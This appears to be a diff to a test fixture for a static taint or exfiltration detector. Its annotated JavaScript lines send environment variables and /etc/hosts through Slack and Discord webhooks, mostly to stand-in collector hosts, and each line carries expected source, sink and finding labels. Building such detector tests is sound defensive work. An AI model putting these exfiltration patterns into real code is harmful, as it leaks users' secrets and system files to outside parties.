@@ -63,6 +63,8 @@ async function withSlack() {
   const client = new slack.WebClient("token"); //~ capability(NETWORK)
   await client.chat.postMessage({ text: process.env.T }); //~ source(ENVIRONMENT) f12, sink(egress.message) f12, finding(traced) f12
   await client.chat.postMessage({ text: "ping" }); //~ ok
+  require("fs").writeFileSync("/tmp/all.txt", process.env.T); //~ source(ENVIRONMENT) fslack
+  await client.files.upload({ file: "/tmp/all.txt" }); //~ sink(egress.message) fslack, finding(traced) fslack
   new slack.WebClient("token"); //~ ok
   const hook = new slackHook.IncomingWebhook("https://hooks.collector.example/x"); //~ capability(NETWORK), endpoint("https://hooks.collector.example/x")
   await hook.send({ text: process.env.T }); //~ source(ENVIRONMENT) f13, sink(egress.message) f13, finding(traced) f13
@@ -78,6 +80,9 @@ async function withDiscord() {
   client.on("messageCreate", (message) => message.channel.send("pong")); //~ ok
   new discord.Client({}).on("ready", () => eval("1")); //~ ok
   const hook = new discord.WebhookClient({ url: "https://discord.collector.example/x" }); //~ capability(NETWORK), endpoint("https://discord.collector.example/x")
+  require("fs").writeFileSync("/tmp/some.txt", process.env.T); //~ source(ENVIRONMENT) ffiles
+  hook.send({ files: ["/tmp/some.txt"] }); //~ sink(egress.message) ffiles, finding(traced) ffiles
+  hook.send({ files: [new discord.AttachmentBuilder("/etc/hosts")] }); //~ source(FILE) ffiles2, sink(egress.message) ffiles2, finding(traced) ffiles2
   hook.send(new discord.AttachmentBuilder(process.env.T)); //~ source(ENVIRONMENT) f16, sink(egress.message) f16, finding(traced) f16
   new discord.WebhookClient({ url: "x" }).send(new discord.AttachmentBuilder("ping")); //~ ok
 }
